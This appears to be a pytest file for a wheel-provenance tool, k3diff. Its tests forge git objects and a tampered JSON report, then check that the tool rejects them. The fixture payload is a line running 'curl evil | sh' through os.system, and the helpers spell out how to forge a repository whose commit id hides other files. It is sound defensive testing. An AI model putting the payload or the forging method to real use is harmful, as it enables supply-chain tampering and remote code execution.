"""git reads an object by its name and never hashes it again: a repository whose stored tree (or
blob, or commit) does not hash to its id makes a commit id hold other files (review62c). Any
such repository can be made in seconds (a loose object is a zlib stream under its id's name), so
`--source` reads the commit's objects itself and checks that each hashes to its id: a commit id
given to `wheels --source`, or a repository given to `report`, can then only mean its own
files."""

from __future__ import annotations

import hashlib
import json
import zlib
from pathlib import Path

import pytest
import wheelkit
from cli_support import run_k3diff

from provenance.repokit import git, make_repo

REAL = b"print('reviewed')\n"
SHIPPED = b"import os; os.system('curl evil | sh')\n"


def _store(repo: Path, kind: bytes, data: bytes, under: str | None = None) -> str:
    """Write a loose object holding `data` under its own id, or under `under` (forged)."""
    raw = b"%s %d\0" % (kind, len(data)) + data
    oid = hashlib.sha1(raw).hexdigest()
    name = under or oid
    path = repo / ".git" / "objects" / name[:2] / name[2:]
    path.parent.mkdir(exist_ok=True)
    if path.exists():
        path.chmod(0o644)
        path.unlink()
    path.write_bytes(zlib.compress(raw))
    return oid


def _forged(tmp_path: Path) -> tuple[Path, str]:
    """A repository whose commit holds demo/m.py = REAL, with the demo tree's object rewritten
    to hold SHIPPED instead (the commit id and its tree id unchanged)."""
    repo = tmp_path / "src"
    (head,) = make_repo(repo, [{"demo/__init__.py": b"", "demo/m.py": REAL}])
    demo = git(repo, "rev-parse", f"{head}:demo")
    empty = _store(repo, b"blob", b"")
    shipped = _store(repo, b"blob", SHIPPED)
    entries = b"100644 __init__.py\0" + bytes.fromhex(empty)
    entries += b"100644 m.py\0" + bytes.fromhex(shipped)
    _store(repo, b"tree", entries, under=demo)
    assert git(repo, "show", f"{head}:demo/m.py") == SHIPPED.decode().strip()  # git believes it
    return repo, head


def _wheels(tmp_path: Path, module: bytes) -> list[str]:
    return [
        str(
            wheelkit.make_wheel(
                tmp_path / v, "demo", v, {"demo/__init__.py": b"", "demo/m.py": module}
            )
        )
        for v in ("1.0", "2.0")
    ]


def test_wheels_refuses_a_tree_object_that_does_not_hash_to_its_id(tmp_path: Path) -> None:
    repo, head = _forged(tmp_path)
    wheels = _wheels(tmp_path, SHIPPED)
    result = run_k3diff("wheels", *wheels, "--source", str(repo), "--commit", head, "--source-all")
    assert result.exit_code == 2, result.stdout
    assert "does not hash to its id" in result.stderr


def test_report_refuses_a_forged_repository_beside_a_source_document(tmp_path: Path) -> None:
    """The document of the shipped wheels against the real commit says W401; edited to say the
    files match, it is given to report with a repository forged to agree with the edit."""
    real = tmp_path / "real"
    (head,) = make_repo(real, [{"demo/__init__.py": b"", "demo/m.py": REAL}])
    wheels = _wheels(tmp_path, SHIPPED)
    made = run_k3diff(
        "wheels", *wheels, "--source", "real", "--commit", head, "--source-all", "--format", "json",
        "-o", "doc.json", cwd=tmp_path,
    )  # fmt: skip
    assert made.exit_code == 1, made.stderr
    document = json.loads((tmp_path / "doc.json").read_text())
    document["findings"] = [f for f in document["findings"] if f["code"] != "W401"]
    for entry in document["entries"]:
        source = entry.get("source")
        if source and source["status"] == "mismatch":
            source.update(status="match", repo_blob=source["wheel_blob"], matched_commit=head)
            source.update(diff=None, added=None, removed=None)
    summary = document["provenance"]["summary"]
    summary.update(match=summary["match"] + summary["mismatch"], mismatch=0)
    document["provenance"]["repo"] = "src"
    document["verdict"].update(ok=True, exit_code=0)
    (tmp_path / "doc.json").write_text(json.dumps(document))
    _, forged_head = _forged(tmp_path)
    assert forged_head == head
    result = run_k3diff("report", "doc.json", *wheels, "src", "--out", "bundle", cwd=tmp_path)
    assert result.exit_code == 2, result.stdout
    assert "does not hash to its id" in result.stderr


def test_a_commit_or_tree_object_past_the_cap_is_refused_unread(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A loose object inflates to whatever size its header says: one past the cap is refused
    # from its header, before its bytes are read (the cap lowered so the commit is past it).
    from k3diff.provenance import trees

    repo = tmp_path / "src"
    (head,) = make_repo(repo, [{"demo/__init__.py": b"", "demo/m.py": REAL}])
    monkeypatch.setattr(trees, "MAX_TREE_BYTES", 30)
    wheels = _wheels(tmp_path, REAL)
    result = run_k3diff("wheels", *wheels, "--source", str(repo), "--commit", head)
    assert result.exit_code == 2, result.stdout
    assert "bytes, past the 30 k3diff reads of one" in result.stderr, result.stderr


def _commit_of(repo: Path, root: str) -> str:
    text = f"tree {root}\nauthor a <a@b> 0 +0000\ncommitter a <a@b> 0 +0000\n\nc\n"
    return _store(repo, b"commit", text.encode())


@pytest.mark.parametrize("how", ["a name holding a slash", "a name given twice"])
def test_a_tree_no_checkout_can_hold_vouches_for_nothing(tmp_path: Path, how: str) -> None:
    """A root tree (hashing to its id: a real object) listing, beside the real `demo/`, an entry
    named `demo/m.py`, or a second `demo/`, that holds the shipped bytes made them the commit's
    `demo/m.py`, and the wheel matched, exit 0 (review67). git fsck rejects such a tree and no
    checkout holds it: exit 2, naming it."""
    repo = tmp_path / "src"
    make_repo(repo, [{"demo/__init__.py": b"", "demo/m.py": REAL}])
    demo = git(repo, "rev-parse", "HEAD:demo")
    shipped = _store(repo, b"blob", SHIPPED)
    if how == "a name holding a slash":
        extra, said = b"100644 demo/m.py\0" + bytes.fromhex(shipped), "'demo/m.py', not a file name"
    else:
        empty = _store(repo, b"blob", b"")
        other = _store(repo, b"tree", b"100644 __init__.py\0" + bytes.fromhex(empty)
                       + b"100644 m.py\0" + bytes.fromhex(shipped))  # fmt: skip
        extra, said = b"40000 demo\0" + bytes.fromhex(other), "'demo', given twice"
    root = _store(repo, b"tree", b"40000 demo\0" + bytes.fromhex(demo) + extra)
    head = _commit_of(repo, root)
    base = wheelkit.make_wheel(tmp_path / "b", "demo", "1.0", {"demo/__init__.py": b"",
                               "demo/m.py": REAL})  # fmt: skip
    patch = wheelkit.make_wheel(tmp_path / "p", "demo", "1.0", {"demo/__init__.py": b"",
                                "demo/m.py": SHIPPED})  # fmt: skip

    result = run_k3diff("wheels", base, patch, "--source", repo, "--commit", head)

    assert result.exit_code == 2, result.stdout
    assert f"tree {root} lists {said} (git fsck rejects the tree)" in result.stderr
